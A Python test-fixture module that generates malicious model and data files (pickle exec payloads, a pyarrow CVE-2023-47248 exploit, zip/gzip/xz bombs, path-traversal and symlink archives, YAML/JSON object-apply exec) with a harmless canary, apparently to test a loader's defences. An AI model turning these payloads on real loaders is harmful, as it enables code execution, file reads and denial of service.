"""Model archives, data sets and job files made to run something: what loaders of other programs fall for.

Each would leave a mark if anything in it ran: a file, a variable of the environment, a connection.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import partial
from importlib.util import MAGIC_NUMBER
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

MARK = "GALAXY_LEARNING_TEST_EXECUTED"
BOMB_BYTES = 1 << 23


@dataclass(frozen=True)
class Canary:
    """Where the marks would be."""

    path: Path

    @property
    def code(self) -> str:
        """A statement that leaves all of them."""
        return (
            f"import os, socket; os.environ[{MARK!r}] = '1'; open({str(self.path)!r}, 'w').close(); "
            "socket.create_connection(('127.0.0.1', 9))"
        )

    @property
    def expression(self) -> str:
        """An expression that leaves the file."""
        return f"__import__('os').mkdir({str(self.path)!r})"


class _Payload:
    """Unpickling this runs ``code``."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code,)


def _pickled(canary: Canary, protocol: int) -> bytes:
    return pickle.dumps(_Payload(canary.code), protocol=protocol)


def _by_hand(canary: Canary) -> bytes:
    """GLOBAL and REDUCE, as the oldest exploits have them."""
    return b"cos\nsystem\n(S'touch " + str(canary.path).encode() + b"'\ntR."


def _stack_global(canary: Canary) -> bytes:
    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()

    return b"\x80\x04" + text("os") + text("mkdir") + b"\x93" + text(str(canary.path)[:250]) + b"\x85R."


def _laughs() -> bytes:
    """A pickle of a few hundred bytes that holds 2^60 references."""
    return (
        b"\x80\x02]q\x00"
        + b"".join(b"(h" + bytes([i]) * 1 + b"h" + bytes([i]) + b"lq" + bytes([i + 1]) for i in range(60))
        + b"."
    )


def zipped(entries: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return buffer.getvalue()


def _torch_zip(canary: Canary) -> bytes:
    entries = {
        "archive/data.pkl": _pickled(canary, 2),
        "archive/version": b"3\n",
        "archive/data/0": bytes(16),
    }
    return zipped(entries, zipfile.ZIP_STORED)


def _torch_legacy(canary: Canary) -> bytes:
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    return magic + pickle.dumps(1001, protocol=2) + pickle.dumps({}, protocol=2) + _pickled(canary, 2)


def _torch_script(canary: Canary) -> bytes:
    return zipped(
        {
            "model/data.pkl": _pickled(canary, 2),
            "model/constants.pkl": _pickled(canary, 2),
            "model/code/__torch__.py": f"def forward(self, x):\n  {canary.code}\n".encode(),
            "model/version": b"3\n",
        },
        zipfile.ZIP_STORED,
    )


def _exported(canary: Canary) -> bytes:
    """A ``.pt2`` whose symbolic sizes are expressions: the loader hands them to ``eval``."""
    program = {
        "graph_module": {"graph": {"nodes": [{"target": f"__main__.{canary.expression}"}]}},
        "range_constraints": {"s0": {"min_val": canary.expression, "max_val": canary.expression}},
        "guards_code": [canary.expression],
        "example_inputs": _pickled(canary, 4).hex(),
    }
    return zipped(
        {
            "model/archive_format": b"pt2",
            "model/models/model.json": json.dumps(program).encode(),
            "model/data/weights/weight_0": _pickled(canary, 4),
            "model/data/constants/custom_obj_0": _pickled(canary, 4),
            "model/extra/x.py": canary.code.encode(),
        },
        zipfile.ZIP_STORED,
    )


def _exported_legacy(canary: Canary) -> bytes:
    program = json.dumps({"sym_expr": canary.expression})
    return zipped(
        {
            "serialized_exported_program.json": program.encode(),
            "serialized_state_dict.pt": _torch_zip(canary),
            "serialized_constants.pt": _torch_legacy(canary),
            "version": b"8.5",
        }
    )


def _lambda_layer(canary: Canary) -> dict[str, Any]:
    code = marshal.dumps(compile(canary.code, "layer", "exec")).hex()
    return {
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}},
    }


def _keras(canary: Canary) -> bytes:
    return zipped(
        {
            "config.json": json.dumps(
                {"class_name": "Sequential", "config": {"layers": [_lambda_layer(canary)]}}
            ).encode(),
            "metadata.json": b'{"keras_version": "3.0.0"}',
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(100),
        }
    )


def _hdf5(canary: Canary) -> bytes:
    return b"\x89HDF\r\n\x1a\n" + bytes(88) + json.dumps(_lambda_layer(canary)).encode()


def _object_array(canary: Canary) -> Any:
    return np.array([_Payload(canary.code), 1], dtype=object)


def _npz(canary: Canary) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, x=_object_array(canary), y=np.arange(2))
    return buffer.getvalue()


def _npy(canary: Canary) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, _object_array(canary))
    return buffer.getvalue()


def npy(values: Any) -> bytes:
    """One sound array."""
    buffer = io.BytesIO()
    np.save(buffer, values)
    return buffer.getvalue()


def _evaluated_header(canary: Canary) -> bytes:
    text = f"{{'descr': {canary.expression}, 'fortran_order': False, 'shape': (1,), }}\n".encode()
    return zipped({"x.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + bytes(8)})


def _onnx() -> bytes:
    """An initializer whose data lie in another file of the victim's."""

    def field(number: int, content: bytes) -> bytes:
        return bytes([number << 3 | 2, len(content)]) + content

    location = field(1, b"location") + field(2, b"../../../../../../etc/passwd")
    tensor = field(8, b"w") + field(13, location) + bytes([14 << 3, 1])
    return b"\x08\x07" + field(7, field(5, tensor))


def tensors(header: bytes, payload: bytes = bytes(64), length: int | None = None) -> bytes:
    """Safetensors with this header, whatever it says."""
    return (len(header) if length is None else length).to_bytes(8, "little") + header + payload


def _tensor(name: str, start: int, end: int, shape: str = "[4]") -> str:
    return f'"{name}":{{"dtype":"F32","shape":{shape},"data_offsets":[{start},{end}]}}'


def _bomb() -> bytes:
    header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }\n" % (BOMB_BYTES // 8)
    return zipped(
        {"x.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bytes(BOMB_BYTES)}
    )


def _nested_bomb() -> bytes:
    data = zipped({"x.npy": bytes(BOMB_BYTES)})
    for level in range(4):
        data = zipped({f"{level}-{copy}.zip": data for copy in range(8)})
    return data


def _overlapping(count: int = 2000) -> bytes:
    """Every entry of the directory is the same compressed megabyte: all of them together are gigabytes."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(1 << 20)) + kernel.flush()
    crc = zlib.crc32(bytes(1 << 20))
    local = (
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed), 1 << 20, 5, 0) + b"0.npy"
    )
    directory = b""
    for number in range(count):
        name = f"{number}.npy".encode()
        sizes = struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(packed),
            1 << 20,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        directory += sizes + name
    body = local + packed
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def _linked_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("x.npy")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def _tar(name: str, *, kind: bytes = tarfile.REGTYPE, link: str = "", mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        entry = tarfile.TarInfo(name)
        entry.type, entry.linkname = kind, link
        entry.size = 3 if kind == tarfile.REGTYPE else 0
        archive.addfile(entry, io.BytesIO(b"abc") if kind == tarfile.REGTYPE else None)
    return buffer.getvalue()


def _named(name: str) -> bytes:
    return zipped({name: npy(np.arange(3.0))})


def _nul_name() -> bytes:
    return _named("x.npyZ.py").replace(b"x.npyZ", b"x.npy\0")


def _extension_schema(canary: Canary) -> Any:
    """pyarrow before 14.0.1 unpickled this when it read a file (CVE-2023-47248)."""
    metadata = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": _pickled(canary, 4),
    }
    return pa.schema([pa.field("x", pa.float64(), metadata=metadata), pa.field("y", pa.int64())])


def _extension_table(canary: Canary) -> Any:
    return pa.table({"x": [0.5, 1.5], "y": [0, 1]}, schema=_extension_schema(canary))


def _arrow(canary: Canary) -> bytes:
    buffer = io.BytesIO()
    table = _extension_table(canary)
    with pa.ipc.new_stream(buffer, table.schema) as writer:
        writer.write_table(table)
    return buffer.getvalue()


def _parquet(canary: Canary) -> bytes:
    """Sound numbers; the pickles are in the metadata of the columns and of pandas."""
    buffer = io.BytesIO()
    table = _extension_table(canary)
    pandas = {"columns": [{"pandas_type": "object", "metadata": {"encoding": "pickle"}}]}
    given = {b"pandas": json.dumps(pandas).encode(), b"pickle": _pickled(canary, 4)}
    pq.write_table(table.replace_schema_metadata(given), buffer)
    return buffer.getvalue()


def _pickled_cells(canary: Canary) -> bytes:
    buffer = io.BytesIO()
    pq.write_table(pa.table({"x": [_pickled(canary, 4)] * 2, "y": [0, 1]}), buffer)
    return buffer.getvalue()


def _compiled(canary: Canary) -> bytes:
    return MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(canary.code, "job", "exec"))


Builder = Callable[[Canary], bytes]

ARCHIVES: dict[str, tuple[str, Builder]] = {
    **{f"pickle of protocol {p}": (".pkl", partial(_pickled, protocol=p)) for p in range(6)},
    "pickle written by hand": (".pkl", _by_hand),
    "pickle with a global from the stack": (".bin", _stack_global),
    "pickle of a billion laughs": (".pkl", lambda canary: _laughs() + _pickled(canary, 2)),
    "pickle behind harmless bytes": (".model", lambda canary: b"\0" * 64 + _pickled(canary, 4)),
    "torch.save": (".pt", _torch_zip),
    "torch.save, legacy": (".pth", _torch_legacy),
    "TorchScript": (".pt", _torch_script),
    "torch.export": (".pt2", _exported),
    "torch.export, legacy": (".pt2", _exported_legacy),
    "Keras with a lambda": (".keras", _keras),
    "Keras HDF5 with a lambda": (".h5", _hdf5),
    "joblib": (".joblib", lambda canary: _pickled(canary, 3)),
    "joblib, compressed": (".joblib", lambda canary: zlib.compress(_pickled(canary, 3))),
    "npz with objects": (".npz", _npz),
    "npz of a pickle": (".npz", lambda canary: zipped({"x.npy": _pickled(canary, 4)})),
    "npz with an expression as header": (".npz", _evaluated_header),
    "npz beside a module": (
        ".npz",
        lambda canary: zipped({"x.npy": npy(np.arange(3)), "numpy.py": canary.code.encode()}),
    ),
    "npy with objects": (".npy", _npy),
    "ONNX with external data": (".onnx", lambda _: _onnx()),
    "safetensors with a header of exabytes": (".safetensors", lambda _: tensors(b"{}", length=1 << 62)),
    "safetensors with a header of 100 MB": (".safetensors", lambda _: tensors(b"{}", length=100_000_000)),
    "safetensors with offsets that overlap": (
        ".safetensors",
        lambda _: tensors(f"{{{_tensor('inputs', 0, 16)},{_tensor('labels', 8, 24)}}}".encode()),
    ),
    "safetensors with offsets beyond the file": (
        ".safetensors",
        lambda _: tensors(f"{{{_tensor('inputs', 0, 1 << 40, '[274877906944]')}}}".encode()),
    ),
    "safetensors with a shape of exabytes": (
        ".safetensors",
        lambda _: tensors(f"{{{_tensor('inputs', 0, 64, '[4294967296,4294967296,4294967296]')}}}".encode()),
    ),
    "safetensors with code in its metadata": (
        ".safetensors",
        lambda canary: tensors(json.dumps({"__metadata__": {"format": canary.expression}}).encode()),
    ),
    "zip bomb": (".npz", lambda _: _bomb()),
    "zip bomb in zips": (".zip", lambda _: _nested_bomb()),
    "zip bomb of entries that overlap": (".npz", lambda _: _overlapping()),
    "gzip bomb": (".gz", lambda _: gzip.compress(bytes(BOMB_BYTES), mtime=0)),
    "bzip2 bomb": (".bz2", lambda _: bz2.compress(bytes(BOMB_BYTES))),
    "xz bomb": (".xz", lambda _: lzma.compress(bytes(BOMB_BYTES), preset=0)),
    "zip that climbs": (".npz", lambda canary: _named(f"../../../../../..{canary.path}/.npy")),
    "zip with an absolute path": (".npz", lambda canary: _named(f"{canary.path}")),
    "zip with a symbolic link": (".npz", lambda _: _linked_zip()),
    "zip with a stream of NTFS": (".npz", lambda _: _named("x.npy:evil.exe")),
    "zip with a NUL in a name": (".npz", lambda _: _nul_name()),
    "zip with names that differ by case": (
        ".npz",
        lambda canary: zipped({"X.npy": npy(np.arange(3)), "x.npy": _pickled(canary, 4)}),
    ),
    "zip with a program": (".pyz", lambda canary: zipped({"__main__.py": canary.code.encode()})),
    "zip behind Python source": (
        ".txt",
        lambda canary: b"print('harmless')\n" + zipped({"__main__.py": canary.code.encode()}),
    ),
    "tar that climbs": (".tar", lambda canary: _tar(f"../../../../../..{canary.path}")),
    "tar with an absolute path": (".tar", lambda canary: _tar(str(canary.path))),
    "tar with a symbolic link": (".tar", lambda _: _tar("weights", kind=tarfile.SYMTYPE, link="/etc/passwd")),
    "tar with a hard link": (
        ".tar",
        lambda _: _tar("weights", kind=tarfile.LNKTYPE, link="../../etc/passwd"),
    ),
    "tar with a device": (".tar", lambda _: _tar("weights", kind=tarfile.CHRTYPE)),
    "tar.gz that climbs": (".tar.gz", lambda canary: _tar(f"../../../../../..{canary.path}", mode="w:gz")),
    "Arrow with a pickled type": (".arrow", _arrow),
    "Parquet with a pickled type": (".parquet", _parquet),
    "Parquet of pickles": (".parquet", _pickled_cells),
    "compiled Python": (".pyc", _compiled),
    "marshalled code": (".bin", lambda canary: marshal.dumps(compile(canary.code, "m", "exec"))),
    "YAML with an object": (
        ".yaml",
        lambda canary: f"!!python/object/apply:exec [{canary.code!r}]\n".encode(),
    ),
    "JSON with an object": (
        ".json",
        lambda canary: json.dumps(
            {"py/reduce": [{"py/function": "builtins.exec"}, {"py/tuple": [canary.code]}]}
        ).encode(),
    ),
    "msgpack with an extension": (
        ".msgpack",
        lambda canary: msgspec.msgpack.encode(
            {"type": "update-body", "parameters": msgspec.msgpack.Ext(0, _pickled(canary, 4))}
        ),
    ),
    "Python source": (".model", lambda canary: canary.code.encode()),
}
"""By name: how the file is called, and what is in it."""
